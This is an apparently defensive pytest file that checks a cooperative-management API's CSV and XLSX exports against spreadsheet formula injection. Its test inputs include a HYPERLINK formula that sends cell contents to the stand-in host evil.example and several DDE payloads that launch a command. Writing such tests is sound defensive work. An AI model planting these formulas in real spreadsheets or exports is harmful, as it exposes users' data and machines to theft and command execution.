"""Exports carry no formula: names a user typed that start like a formula are text in
every CSV and XLSX report (OWASP CSV injection), while amounts, negative ones included,
stay numbers."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from scic.reports import REPORTS
from scic.reports.formats.cells import FORMULA_STARTS
from tests.api.conftest import admit, create_coop, subscribe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
]
NUMBER = re.compile(r"-?\d+(,\d+)?")


@pytest.fixture
def hostile(client: TestClient) -> str:
    coop = create_coop(client, name='=HYPERLINK("http://evil.example","SCIC")')
    subscriptions = []
    for name in HOSTILE:
        member = admit(client, coop, name, "usagers")
        subscriptions.append(subscribe(client, coop, member, 4, "100.00")["id"])
    funder = {"name": "=cmd|' /C calc'!A0", "type": "region"}
    grant = {
        "funder": funder,
        "purpose": "operating",
        "amount": "5000.00",
        "awarded_on": "2020-01-10",
        "justify_by": "2021-12-31",
        "de_minimis": False,
    }
    assert client.post(f"/v1/coops/{coop}/grants", json=grant).status_code == 201
    withdrawal = {"member_id": member, "shares": 4, "effective_date": "2020-06-01"}
    assert client.post(f"/v1/coops/{coop}/withdrawals", json=withdrawal).status_code == 201
    correction = {"reverses": subscriptions[0], "reason": '=HYPERLINK("x") saisie en double'}
    assert client.post(f"/v1/coops/{coop}/corrections", json=correction).status_code == 201
    return coop


def _reports(client: TestClient, coop: str, fmt: str) -> list[tuple[str, bytes]]:
    found = []
    for name in REPORTS:
        response = client.get(f"/v1/coops/{coop}/reports/{name}", params={"format": fmt})
        if response.status_code == 200 and fmt in response.headers["content-type"] + fmt:
            found.append((name, response.content))
    return found


def _is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_no_csv_cell_starts_like_a_formula(client: TestClient, hostile: str) -> None:
    exported = _reports(client, hostile, "csv")
    assert {name for name, _ in exported} >= {"member-register", "movements"}
    seen: list[str] = []
    for name, body in exported:
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"):
            for cell in row:
                seen.append(cell)
                assert not _is_formula_like(cell) or NUMBER.fullmatch(cell), (name, cell)
    for typed in HOSTILE:
        assert "'" + typed in seen  # kept whole, marked as text
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for c in seen), "a negative stays"


def _sheets(body: bytes) -> list[Any]:
    return list(openpyxl.load_workbook(io.BytesIO(body)).worksheets)


def test_no_xlsx_cell_is_a_formula(client: TestClient, hostile: str) -> None:
    exported = _reports(client, hostile, "xlsx")
    assert {name for name, _ in exported} >= {"member-register", "movements"}
    texts: list[str] = []
    negatives = 0
    for name, body in exported:
        for sheet in _sheets(body):
            assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'=")
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
                        assert cell.data_type == "s"
                        assert not _is_formula_like(cell.value), (name, cell.value)
                    elif isinstance(cell.value, int | float) and cell.value < 0:
                        negatives += 1
    for typed in HOSTILE:
        assert "'" + typed in texts
    assert negatives > 0, "negative amounts stay numbers"
